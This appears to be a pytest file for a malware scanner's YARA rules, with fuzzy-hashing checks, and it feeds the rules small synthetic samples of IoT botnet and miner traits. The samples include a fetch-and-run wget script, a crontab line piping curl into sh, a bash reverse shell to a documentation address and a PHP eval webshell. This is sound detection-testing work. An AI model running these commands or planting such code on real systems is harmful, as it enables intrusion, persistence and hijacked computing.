"""Our rules against harmless samples made for them, against what must not match, and a rule that takes too long."""

from __future__ import annotations

import re
import threading
from pathlib import Path

import ppdeep
import pytest

from eudaemon.payload.fuzzy import BYTES_MAX, fuzzy_hash, likeness
from eudaemon.payload.yara import OWN_RULES, RulesError, Yara
from payload.servers import content

ELF = b"\x7fELF\x01\x01\x01" + bytes(64)  # a header that runs nowhere


def xored(text: bytes, key: int) -> bytes:
    return bytes(byte ^ key for byte in text)


SAMPLES = {
    "Mirai_Like": ELF + b"/dev/watchdog\0/dev/misc/watchdog\0/proc/net/tcp\0",
    "Mirai_Table_Xor22": ELF + xored(b"listening tun0", 0x22),
    "Mirai_Table_Other_Key": ELF + xored(b"applet not found", 0x54),
    "Gafgyt_Like": ELF + b"PONG!\0GETLOCALIP\0SCANNER\0HOLD\0JUNK\0",
    "Mozi_Like": ELF + b"[ss]\0[/ss]\0[hp]\0dht.transmissionbt.com:6881\0router.bittorrent.com:6881\0",
    "Tsunami_Like": ELF + b"NOTICE %s :TSUNAMI <target> <secs>\n\0JOIN %s :%s\n\0",
    "Exploits_Carried": ELF + b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n",
    "XMRig_Like": ELF + b"XMRig 6.0\0donate-level\0randomx\0stratum+tcp://\0",
    "Miner_Script": b"#!/bin/sh\npkill -9 xmrig\n./x -o stratum+tcp://pool.example:3333\n",
    "Rivals_Removed": b"#!/bin/sh\npkill kinsing\npkill kdevtmpfsi\n",
    "Script_Fetches_And_Runs": b"cd /tmp; wget http://192.0.2.1/x; chmod 777 x; ./x\n",
    "Script_Tries_Every_Architecture": b"wget http://192.0.2.1/b.mips\nwget http://192.0.2.1/b.arm7\nwget http://192.0.2.1/b.x86\n",
    "Script_Writes_Itself_Into_Startup": b"(crontab -l; echo '* * * * * curl http://192.0.2.1/i|sh') | crontab -\n",
    "Elf_Downloader": ELF + b"GET /bins/mirai.arm HTTP/1.0\r\n\r\n\0FIN\n\0",
    "Reverse_Shell_Text": b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
    "Php_Webshell": b"<?php @eval($_POST['x']); ?>",
    "UPX_Packed": ELF + b"UPX!" + bytes(99) + b"UPX!",
    "UPX_Mark_Changed": ELF + b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $",
}


@pytest.fixture(scope="module")
def yara() -> Yara:
    return Yara()


@pytest.mark.parametrize("rule", SAMPLES)
def test_each_rule_knows_its_sample(yara: Yara, rule: str) -> None:
    assert rule in yara.matches(SAMPLES[rule])


def test_every_rule_has_a_sample_and_a_description() -> None:
    text = "".join(path.read_text() for path in OWN_RULES.glob("*.yar"))
    assert set(re.findall(r"^rule (\w+)", text, re.MULTILINE)) == set(SAMPLES)
    assert text.count("description = ") == len(SAMPLES)


def test_the_innocent_match_nothing(yara: Yara) -> None:
    folders = ("/bin", "/usr/sbin", "/etc/init.d")
    files = [path for folder in folders for path in sorted(Path(folder).iterdir())[:40] if path.is_file()]
    assert len(files) > 40
    assert [(path, found) for path in files if (found := yara.matches(path.read_bytes()))] == []


def test_random_and_empty_data_match_nothing(yara: Yara) -> None:
    assert yara.matches(b"") == yara.matches(bytes(range(256)) * 4096) == ()


def test_rules_are_usable_from_any_thread(yara: Yara) -> None:
    found: list[tuple[str, ...]] = []
    threads = [threading.Thread(target=lambda: found.append(yara.matches(SAMPLES["Mirai_Like"]))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert found == [yara.matches(SAMPLES["Mirai_Like"])] * 4


def test_rules_of_ones_own_are_added_and_complaints_name_the_file(tmp_path: Path) -> None:
    (tmp_path / "mine.yar").write_text('rule Mine { strings: $a = "needle" condition: $a }')
    assert Yara([tmp_path]).matches(b"a needle in hay") == ("Mine",)
    (tmp_path / "broken.yar").write_text("rule Broken {")
    with pytest.raises(RulesError, match=r"broken\.yar"):
        Yara([tmp_path])


def test_a_scan_that_takes_too_long_matches_nothing(tmp_path: Path) -> None:
    (tmp_path / "slow.yar").write_text(
        "rule Slow { condition: for any i in (0..1000000000) : (for any j in (0..1000000000) : (uint8(i) == 256 + j)) }"
    )
    assert Yara([tmp_path]).matches(b"x" * 100, scan_s_max=1) == ()


def test_like_files_have_like_hashes() -> None:
    whole = content(20_000)
    changed = whole[:9000] + b"something else" + whole[9000:]
    assert likeness(fuzzy_hash(whole), fuzzy_hash(changed)) > 80
    assert likeness(fuzzy_hash(whole), fuzzy_hash(bytes(20_000))) == 0
    assert fuzzy_hash(b"") == fuzzy_hash(content(BYTES_MAX + 1)) == ""
    assert likeness("", fuzzy_hash(whole)) == 0
    assert fuzzy_hash(whole) == ppdeep.hash(whole)


def test_no_file_is_read_more_than_the_limit() -> None:
    """Zeros are read anew for every block size: ten times for 100,000 of them."""
    assert fuzzy_hash(bytes(100_000)) == "" != fuzzy_hash(bytes(50_000))
